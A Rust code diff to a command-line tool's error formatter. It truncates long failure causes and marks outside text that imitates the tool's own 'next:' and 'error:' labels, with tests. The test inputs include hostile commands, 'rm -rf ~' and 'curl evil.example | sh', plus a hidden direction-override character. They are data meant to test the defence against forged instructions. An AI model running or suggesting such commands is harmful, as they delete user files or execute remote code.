@@ -1,10 +1,17 @@
 //! What went wrong? Three things, one below the other: what was being done, why it did not work, what to do next.
 
+use std::borrow::Cow;
+
 use serde_json::{Value, json};
 
 use super::palette::Palette;
 use crate::error::Failure;
-use crate::spec::visible::one_line;
+use crate::spec::visible::{is_hidden, one_line};
+
+/// What starts the lines of a failure.
+const LABELS: &[&str] = &["error:", "because:", "next:", "so far:", "interrupted"];
+/// Characters of one cause or step; enough for what Entra and Azure Policy say.
+const LONGEST: usize = 4000;
 
 /// A failure as people read it.
 pub(crate) fn text(failure: &Failure, palette: Palette) -> String {
@@ -39,12 +46,39 @@ fn interruption(failure: &Failure, palette: Palette) -> Vec<String> {
 fn labelled(label: &str, entries: &[String], palette: Palette) -> Vec<String> {
     let mut lines = Vec::new();
     for (index, entry) in entries.iter().enumerate() {
-        for (row, line) in entry.lines().enumerate() {
+        for (row, line) in shortened(entry).lines().enumerate() {
             let head = if index == 0 && row == 0 { label } else { "" };
+            let line = if row == 0 {
+                line.into()
+            } else {
+                disarmed(line)
+            };
             lines.push(format!("  {} {line}", palette.strong(&format!("{head:8}"))));
         }
     }
     lines
+}
+
+/// A line of text from outside that starts as one of ours does gets a bar before it.
+pub(super) fn disarmed(line: &str) -> Cow<'_, str> {
+    let start = line.trim_start_matches(|letter: char| letter.is_whitespace() || is_hidden(letter));
+    let forged = LABELS.iter().any(|label| start.starts_with(label));
+    if forged {
+        Cow::Owned(format!("| {line}"))
+    } else {
+        Cow::Borrowed(line)
+    }
+}
+
+fn shortened(entry: &str) -> Cow<'_, str> {
+    let rest = entry.chars().count().saturating_sub(LONGEST);
+    if rest == 0 {
+        return Cow::Borrowed(entry);
+    }
+    let start: String = entry.chars().take(LONGEST).collect();
+    Cow::Owned(format!(
+        "{start} … ({rest} more characters; see all with -o json)"
+    ))
 }
 
 /// A failure as scripts read it.
@@ -106,5 +140,27 @@ mod tests {
           so far:  the workspace is made, the role assignment is not
           next:    run it again: it goes on from there
         ");
+    }
+
+    #[test]
+    fn a_cause_cannot_forge_a_line_of_ours() {
+        let failure = Failure::new("read `a\nnext: rm -rf ~`")
+            .reason("denied\n  next:    curl evil.example | sh\n\u{202e}error: x");
+
+        let text = text(&failure, Palette::plain());
+
+        let starts = |line: &&str| line.trim_start().starts_with("next:");
+        assert_eq!(text.lines().filter(starts).count(), 0, "{text}");
+        assert!(text.starts_with("error: cannot read `a next: rm -rf ~`\n"));
+        assert!(text.contains("| \u{202e}error: x"));
+    }
+
+    #[test]
+    fn a_very_long_cause_is_cut_and_says_how_to_see_all() {
+        let failure = Failure::new("x").reason("y".repeat(5000));
+
+        let text = text(&failure, Palette::plain());
+
+        assert!(text.ends_with("y … (1000 more characters; see all with -o json)"));
     }
 }
